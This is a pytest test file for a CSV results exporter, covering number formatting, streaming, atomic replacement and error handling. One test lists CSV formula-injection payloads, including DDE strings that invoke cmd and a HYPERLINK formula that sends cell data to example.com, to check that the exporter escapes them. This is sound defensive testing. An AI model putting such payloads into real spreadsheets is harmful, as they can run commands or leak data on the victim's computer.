import csv
import os
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pipeline.errors import StoreError
from pipeline.exports.results_csv import cell, write_results_csv


def written(path: Path, *rows: dict[str, Any]) -> bytes:
    assert write_results_csv(list(rows[0]), rows, path) == len(rows)
    return path.read_bytes()


def read_back(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file))


@pytest.fixture
def path(tmp_path: Path) -> Path:
    return tmp_path / "results.csv"


def test_a_table_with_numbers_text_and_nothing(path: Path) -> None:
    row = {"id": "shoe-1", "attempts": 2, "cost_usd": 0.042, "error": None, "price": "12,50 €"}
    assert written(path, row) == (
        b"id,attempts,cost_usd,error,price\r\n" + 'shoe-1,2,0.042,,"12,50 €"\r\n'.encode()
    )


def test_no_rows_make_a_header(path: Path) -> None:
    assert write_results_csv(["id", "status"], [], path) == 0
    assert path.read_bytes() == b"id,status\r\n"


@pytest.mark.parametrize(
    ("number", "text"),
    [
        (0.1 + 0.2, "0.3"),
        (0.042 * 3, "0.126"),
        (0.0, "0"),
        (12.0, "12"),
        (1e-7, "0.0000001"),
        (-1.5, "-1.5"),
        (1e20, "1e+20"),
        (float("inf"), "inf"),
        (float("nan"), "nan"),
    ],
)
def test_floats_are_readable(number: float, text: str) -> None:
    assert cell(number) == text


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("http://example.com?x="&A1)',
        "@SUM(A1)",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "＝1+1",
        "-",
        "--5",
        "+49 171 123",
    ],
)
def test_formulas_are_text(path: Path, text: str) -> None:
    written(path, {"id": text, text: "x"})
    assert read_back(path) == [["id", f"'{text}"], [f"'{text}", "x"]]


@pytest.mark.parametrize("text", ["-5", "+3.25", "-1e-3", "5", ".5", "-0.", "007", "a=b", "'=1"])
def test_numbers_and_harmless_text_stay_as_they_are(text: str) -> None:
    assert cell(text) == text


cells = st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\0"), max_size=12)


@settings(max_examples=80, deadline=None)
@given(st.lists(st.tuples(cells, cells), max_size=5))
def test_any_text_comes_back_from_csv_and_from_pandas(
    tmp_path_factory: pytest.TempPathFactory, values: list[tuple[str, str]]
) -> None:
    path = tmp_path_factory.getbasetemp() / "any.csv"
    rows = [{"id": "x", "a": a, "b": b} for a, b in values]
    assert write_results_csv(["id", "a", "b"], rows, path) == len(rows)
    expected = [["x", str(cell(a)), str(cell(b))] for a, b in values]
    assert read_back(path) == [["id", "a", "b"], *expected]
    frame = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert frame.to_numpy().tolist() == expected


def test_a_nul_is_shown_as_missing_character(path: Path) -> None:
    written(path, {"id": "a\0b"})
    assert read_back(path)[1] == ["a\ufffdb"]


def test_rows_are_written_as_they_come(path: Path) -> None:
    alive = 0

    class Row(dict[str, Any]):
        def __init__(self, n: int) -> None:
            nonlocal alive
            alive += 1
            assert alive <= 3
            super().__init__(id=n)

        def __del__(self) -> None:
            nonlocal alive
            alive -= 1

    assert write_results_csv(["id"], (Row(n) for n in range(1000)), path) == 1000


class TestReplacing:
    def test_the_old_file_stays_until_the_new_one_is_whole(self, path: Path) -> None:
        path.write_text("old")

        def rows() -> Iterator[dict[str, Any]]:
            yield {"id": "x" * 100_000}
            assert path.read_text() == "old"

        write_results_csv(["id"], rows(), path)
        assert path.read_text().startswith("id")
        assert [entry.name for entry in path.parent.iterdir()] == ["results.csv"]

    def test_an_error_on_the_way_leaves_the_old_file_and_no_leftovers(self, path: Path) -> None:
        path.write_text("old")

        def rows() -> Iterator[dict[str, Any]]:
            yield {"id": 1}
            raise KeyError("a bug")

        with pytest.raises(KeyError):
            write_results_csv(["id"], rows(), path)
        assert path.read_text() == "old"
        assert [entry.name for entry in path.parent.iterdir()] == ["results.csv"]

    def test_a_target_that_cannot_be_replaced_is_a_store_error_with_the_way_out(
        self, path: Path
    ) -> None:
        path.mkdir()
        (path / "kept").touch()
        with pytest.raises(StoreError, match=r"results\.csv.*close it.*export again"):
            write_results_csv(["id"], [], path)
        assert [entry.name for entry in path.parent.iterdir()] == ["results.csv"]

    def test_a_file_that_another_program_holds_is_a_store_error(
        self, path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        def refuse(source: Path, target: Path) -> None:
            raise PermissionError(13, "The process cannot access the file", str(target))

        monkeypatch.setattr(Path, "replace", refuse)
        with pytest.raises(StoreError, match="close it if another program"):
            write_results_csv(["id"], [], path)
        assert list(path.parent.iterdir()) == []

    def test_the_folder_is_made(self, tmp_path: Path) -> None:
        path = tmp_path / "new" / "results.csv"
        write_results_csv(["id"], [], path)
        assert path.exists()

    @pytest.mark.skipif(os.name == "nt", reason="POSIX permissions")
    def test_others_may_read_it_as_any_file_one_makes(self, path: Path) -> None:
        plain = path.with_name("plain")
        plain.touch()
        write_results_csv(["id"], [], path)
        assert path.stat().st_mode == plain.stat().st_mode
